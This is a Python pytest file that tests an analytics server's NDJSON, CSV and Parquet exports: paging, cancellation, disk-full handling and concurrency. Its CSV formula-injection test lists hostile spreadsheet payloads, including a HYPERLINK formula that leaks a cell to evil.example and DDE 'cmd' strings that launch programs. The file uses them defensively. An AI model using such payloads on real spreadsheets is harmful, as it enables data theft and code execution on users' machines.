"""Exports as the store reads them: page by page, every row once, in three formats, until they are cancelled."""

import contextlib
import csv
import io
import json
import threading
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from integration.stores import NOW, Engine, make_row
from millimetric_server.api.errors import AppError, Reason
from millimetric_server.api.messages import ExportFormat, Filter, Instant, StoredEvent
from millimetric_server.reads import exports
from millimetric_server.reads.conditions import Conditions
from millimetric_server.reads.exports import ExportReader, Selection
from millimetric_server.reads.filters import add_filters
from millimetric_server.store.cancellation import Cancellation
from millimetric_server.store.faults import StoreUnavailableError
from millimetric_server.store.read_pool import EXPORTS_MAX
from support.waiting import wait_until

_SECOND = 1_000_000
_FULL = Path("/dev/full")
_COLUMNS = StoredEvent.__struct_fields__
# A matter of minutes.
_SUM = "SELECT sum(bitAnd(reinterpretAsUInt64(SHA512(toString(number))), 1)) FROM numbers(900000000)"
_ENDLESS = Conditions([f"({_SUM}) >= 0"])
_RUNNING = "SELECT count() FROM system.processes WHERE query LIKE '%numbers(900000000)%' AND query NOT LIKE '%proc%'"


@pytest.fixture(autouse=True)
def _small_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "PAGE_ROWS_MAX", 3)


def select(
    written: ExportFormat,
    conditions: Conditions | None = None,
    *,
    project: str = "prj_a",
    cancellation: Cancellation | None = None,
) -> Selection:
    return Selection(project, conditions or Conditions(), written, "a-request", cancellation or Cancellation())


def read_pieces(reader: ExportReader) -> Iterator[bytes]:
    """Each piece as it is read; the reader is closed at the end."""
    try:
        while True:
            while piece := reader.take():
                yield piece
            if (waiting := reader.read_on()) is None:
                return
            waiting.result(120)
    finally:
        reader.close()


def open_reader(engine: Engine, selection: Selection) -> ExportReader:
    reader = ExportReader.open(engine.store, selection)
    assert reader is not None
    return reader


def read_all(engine: Engine, selection: Selection) -> bytes:
    return b"".join(read_pieces(open_reader(engine, selection)))


def read_ndjson(engine: Engine, conditions: Conditions | None = None, *, project: str = "prj_a") -> list[Any]:
    data = read_all(engine, select(ExportFormat.NDJSON, conditions, project=project))
    return [json.loads(line) for line in data.splitlines()]


def expect_rows(engine: Engine) -> list[dict[str, Any]]:
    """The rows of prj_a as Query reads them, with times as text."""
    columns = [f"toUnixTimestamp64Micro({name})" if name in ("timestamp", "received_at") else name for name in _COLUMNS]
    rows = engine.store.query(
        f"SELECT {', '.join(columns)} FROM events WHERE project_id = 'prj_a' ORDER BY timestamp DESC, event_id DESC"
    )
    named = [dict(zip(_COLUMNS, row, strict=True)) for row in rows]
    return [row | {name: Instant(row[name]).to_text() for name in ("timestamp", "received_at")} for row in named]


def add_various(engine: Engine) -> None:
    """Equal times, all precisions of a second, all that needs an escape, and another project."""
    awkward = ['{"a": "line\\nbreak, \\"quote\\""}', '{"path": "/a/b", "ü": "💶"}', "{}"]
    engine.append(
        *(
            make_row(
                event_id=f"e{number:02}",
                timestamp=NOW - number // 4 * _SECOND - (0, 1000, 1)[number % 3] * (number > 8),
                received_at=NOW + number,
                properties=awkward[number % 3],
                url="https://shop.example.com/a?b=c,d",
                campaign='a "b", c\td',
                user_id="u1" if number % 2 else "",
                is_bot=number % 5 == 0,
            )
            for number in range(20)
        ),
        make_row(project_id="prj_b", event_id="e01", event="theirs"),
    )


def test_ndjson_has_the_rows_of_query(engine: Engine) -> None:
    add_various(engine)
    assert read_ndjson(engine) == expect_rows(engine)


def test_csv_has_the_rows_of_query_behind_one_line_of_names(engine: Engine) -> None:
    add_various(engine)
    data = read_all(engine, select(ExportFormat.CSV))
    names, *rows = csv.reader(io.StringIO(data.decode(), newline=""))
    assert tuple(names) == _COLUMNS
    wanted = [{**row, "is_bot": str(row["is_bot"]).lower()} for row in expect_rows(engine)]
    assert [dict(zip(names, row, strict=True)) for row in rows] == wanted


def begins_a_formula(text: str) -> bool:
    """Whether a spreadsheet program may take a cell for a formula; written without looking at how the server does."""
    if text.lstrip("'")[:1] in ("\t", "\r", "\n"):
        return True
    for character in text:
        if character in "=+-@\uff1d\uff0b\uff0d\uff20":
            return True
        if character not in "\"'`" and unicodedata.category(character)[0] not in "ZC":
            return False
    return False


_FORMULAS = (
    '=HYPERLINK("https://evil.example?leak="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    "'\ttext",
    " =1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b+1",
    "\u3000@x",
    "\x01=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "+49 30 1234",
)
_TEXTS = ("1=1", "a-b", "a@b.example", "'quoted'", "  text", "100", "", "/a=b", "ü=1", "(=1)")


@pytest.mark.parametrize("column", ["event_id", "user_id", "referrer"])
def test_no_cell_of_a_csv_begins_a_formula_and_every_value_can_be_had_back(engine: Engine, column: str) -> None:
    texts = [text for text in _FORMULAS + _TEXTS if text or column not in ("event", "event_id")]
    others = ("url", "campaign", "source", "medium")
    engine.append(
        *(
            make_row(**{"event_id": f"e{number:03}", column: text} | dict.fromkeys(others, text))
            for number, text in enumerate(texts)
        )
    )
    raw = {row[column]: row for row in read_ndjson(engine)}
    assert set(raw) == set(texts)  # NDJSON has what was sent
    names, *rows = csv.reader(io.StringIO(read_all(engine, select(ExportFormat.CSV)).decode(), newline=""))
    back = {}
    for values in rows:
        row = dict(zip(names, values, strict=True))
        assert not [text for text in values if begins_a_formula(text.removeprefix("'")) and not text.startswith("'")]
        for name, text in row.items():
            if begins_a_formula(text):  # the rule of docs/api/rest.md
                row[name] = text.removeprefix("'")
        back[row[column]] = row
    assert set(back) == set(texts)
    for text, row in back.items():
        assert all(row[name] == text for name in others)
        assert row["properties"] == raw[text]["properties"]


def test_parquet_has_the_rows_of_query(engine: Engine, tmp_path: Path) -> None:
    add_various(engine)
    path = tmp_path / "rows.parquet"
    path.write_bytes(read_all(engine, select(ExportFormat.PARQUET)))
    columns = [f"toUnixTimestamp64Micro({name})" if name in ("timestamp", "received_at") else name for name in _COLUMNS]
    rows = engine.store.query(f"SELECT {', '.join(columns)} FROM file('{path}', 'Parquet')")
    named = [dict(zip(_COLUMNS, row, strict=True)) for row in rows]
    texts = [row | {name: Instant(row[name]).to_text() for name in ("timestamp", "received_at")} for row in named]
    assert texts == expect_rows(engine)


def test_an_export_of_nothing_is_an_empty_file(engine: Engine, tmp_path: Path) -> None:
    assert read_all(engine, select(ExportFormat.NDJSON)) == b""
    (names,) = csv.reader(io.StringIO(read_all(engine, select(ExportFormat.CSV)).decode(), newline=""))
    assert tuple(names) == _COLUMNS
    path = tmp_path / "rows.parquet"
    path.write_bytes(read_all(engine, select(ExportFormat.PARQUET)))
    assert engine.store.query(f"SELECT count() FROM file('{path}', 'Parquet')")[0][0] == 0


@pytest.mark.parametrize("count", [2, 3, 4, 6])
def test_a_page_may_end_where_the_rows_do(engine: Engine, count: int) -> None:
    engine.append(*(make_row(event_id=str(number)) for number in range(count)))
    assert [row["event_id"] for row in read_ndjson(engine)] == [str(number) for number in reversed(range(count))]


def test_a_page_may_end_at_its_bytes(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "PAGE_ROWS_MAX", 100)
    monkeypatch.setattr(exports, "PAGE_BYTES_MAX", 1000)
    engine.append(*(make_row(event_id=str(number), properties=f'{{"a":"{"x" * 200}"}}') for number in range(9)))
    assert [row["event_id"] for row in read_ndjson(engine)] == [str(number) for number in reversed(range(9))]


def test_a_row_larger_than_a_page_does_not_end_the_export(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "PAGE_BYTES_MAX", 1000)
    sizes = {"1": 10, "2": 2000, "3": 10}
    engine.append(*(make_row(event_id=name, properties=f'{{"a":"{"x" * size}"}}') for name, size in sizes.items()))
    assert [row["event_id"] for row in read_ndjson(engine)] == ["3", "2", "1"]


def test_range_and_filters_select(engine: Engine) -> None:
    add_various(engine)
    conditions = Conditions()
    conditions.require_range("timestamp", NOW - 3 * _SECOND, NOW)
    add_filters(conditions, [Filter("user_id", values=["u1"])])
    wanted = [
        row
        for row in expect_rows(engine)
        if row["user_id"] == "u1" and NOW - 3 * _SECOND <= Instant.parse(row["timestamp"]) < NOW
    ]
    assert wanted
    assert read_ndjson(engine, conditions) == wanted


def test_an_export_has_the_rows_of_its_project_alone(engine: Engine) -> None:
    add_various(engine)
    assert [row["event"] for row in read_ndjson(engine, project="prj_b")] == ["theirs"]
    assert read_ndjson(engine, project="prj_c") == []


def test_rows_that_are_added_meanwhile_neither_shift_nor_repeat_others(engine: Engine) -> None:
    add_various(engine)
    before = [row["event_id"] for row in expect_rows(engine)]
    seen: list[str] = []
    pages = read_pieces(open_reader(engine, select(ExportFormat.NDJSON)))
    for number, page in enumerate(pages):
        seen += [json.loads(line)["event_id"] for line in page.splitlines()]
        engine.append(
            make_row(event_id=f"new{number}", timestamp=NOW + number),  # in front of all
            make_row(event_id=f"old{number}", timestamp=NOW - 10 * _SECOND - number),  # behind the pages so far
            make_row(event_id=f"e00x{number}"),  # between equal times
        )
        if number > 10:
            break
    pages.close()  # type: ignore[attr-defined]  # a generator
    assert len(set(seen)) == len(seen)
    assert [event_id for event_id in seen if event_id in before] == before


def test_a_project_gets_so_many_places_and_no_more(engine: Engine) -> None:
    selection = select(ExportFormat.NDJSON)
    readers = [open_reader(engine, selection) for _ in range(EXPORTS_MAX // 2)]
    assert ExportReader.open(engine.store, selection) is None
    others = open_reader(engine, replace(selection, project_id="prj_b"))
    readers[0].close()
    readers[0].close()  # gives one place back, not two
    again = open_reader(engine, selection)
    assert ExportReader.open(engine.store, selection) is None
    for reader in (others, again, *readers):
        reader.close()


@pytest.mark.parametrize("written", [ExportFormat.NDJSON, ExportFormat.PARQUET])
def test_a_cancelled_export_stops_in_clickhouse(engine: Engine, written: ExportFormat) -> None:
    engine.append(*(make_row(event_id=str(number)) for number in range(300)))
    cancellation = Cancellation()
    reader = open_reader(engine, select(written, _ENDLESS, cancellation=cancellation))
    waiting = reader.read_on()
    assert waiting is not None
    wait_until(lambda: engine.store.query(_RUNNING)[0][0] == 1, "the query runs")
    cancellation.cancel()
    with pytest.raises(AppError) as caught:
        waiting.result(120)
    reader.close()
    assert caught.value.reason is Reason.UPSTREAM_FAILED
    assert engine.store.query(_RUNNING)[0][0] == 0


@pytest.mark.parametrize("rows", [1, 2000], ids=["noticed-at-the-end", "noticed-in-the-middle"])
def test_a_full_disk_is_no_outage(engine: Engine, monkeypatch: pytest.MonkeyPatch, small_disk: Path, rows: int) -> None:
    engine.append(*(make_row(event_id=str(number), properties=f'{{"n":"{number**9}"}}') for number in range(rows)))
    if engine.store.is_embedded:  # which writes the file itself
        folder = small_disk / "export"
        folder.mkdir()
        with contextlib.suppress(OSError), (small_disk / "filler").open("wb") as filler:
            filler.write(b"x" * 32_000_000)
        monkeypatch.setattr(exports.tempfile, "mkdtemp", lambda **_: str(folder))
    else:
        monkeypatch.setattr(exports.tempfile, "TemporaryFile", lambda: _FULL.open("w+b", buffering=4096))
    reader = open_reader(engine, select(ExportFormat.PARQUET))
    waiting = reader.read_on()
    assert waiting is not None
    with pytest.raises(AppError) as caught:
        waiting.result(120)
    reader.close()
    assert caught.value.reason is Reason.OVERLOADED
    assert caught.value.retry_after_s
    assert engine.store.reads.run("SELECT 1", {}, Cancellation()).result(120) == [(1,)]


def test_while_clickhouse_is_away_an_export_fails_at_once(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> None:
    asked: list[str] = []
    monkeypatch.setattr(engine.store.outage, "may_try", lambda: False)
    future = engine.store.reads.submit_export(lambda: asked.append("it"), "a-request", Cancellation())
    with pytest.raises(AppError) as caught:
        future.result(120)
    assert caught.value.reason is Reason.UPSTREAM_FAILED
    assert asked == []


def test_a_killed_query_leaves_nothing_to_the_next(engine: Engine) -> None:
    """The embedded engine would give its output to whoever asks next on the same handle."""
    cancellation = Cancellation()
    statement = (
        "SELECT number, repeat('theirs', 100), sleepEachRow(0.001) FROM numbers(20000) "
        "SETTINGS max_block_size = 50, max_threads = 1, log_comment = 'to-be-killed'"
    )
    future = engine.store.reads.submit_export(
        lambda: engine.store.read_bytes(statement, {}, "JSONEachRow"), "to-be-killed", cancellation
    )
    progress = "SELECT max(read_rows) FROM system.processes WHERE Settings['log_comment'] = 'to-be-killed'"
    wait_until(lambda: engine.store.query(progress)[0][0] >= 500, "some of the answer is written")
    cancellation.cancel()
    with pytest.raises(AppError):
        future.result(120)
    for _ in range(2 * EXPORTS_MAX):
        mine = engine.store.reads.submit_export(
            lambda: engine.store.read_bytes("SELECT 1 AS one", {}, "JSONEachRow"), "mine", Cancellation()
        )
        assert mine.result(120) == b'{"one":1}\n'


def test_a_page_that_fails_in_the_middle_is_not_taken_for_a_page(engine: Engine) -> None:
    statement = (
        "SELECT number, repeat('x', 1000), throwIf(number = 20000) FROM numbers(40000) "
        "SETTINGS max_block_size = 1000, max_threads = 1"
    )
    with pytest.raises(StoreUnavailableError):
        engine.store.read_bytes(statement, {}, "JSONEachRow")
    assert engine.store.read_bytes("SELECT 1 AS one", {}, "JSONEachRow") == b'{"one":1}\n'


def test_exports_read_at_the_same_time(engine: Engine) -> None:
    add_various(engine)
    files: list[bytes] = []
    threads = [
        threading.Thread(target=lambda: files.append(read_all(engine, select(ExportFormat.NDJSON))))
        for _ in range(EXPORTS_MAX // 2)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert len(files) == EXPORTS_MAX // 2
    assert len(set(files)) == 1
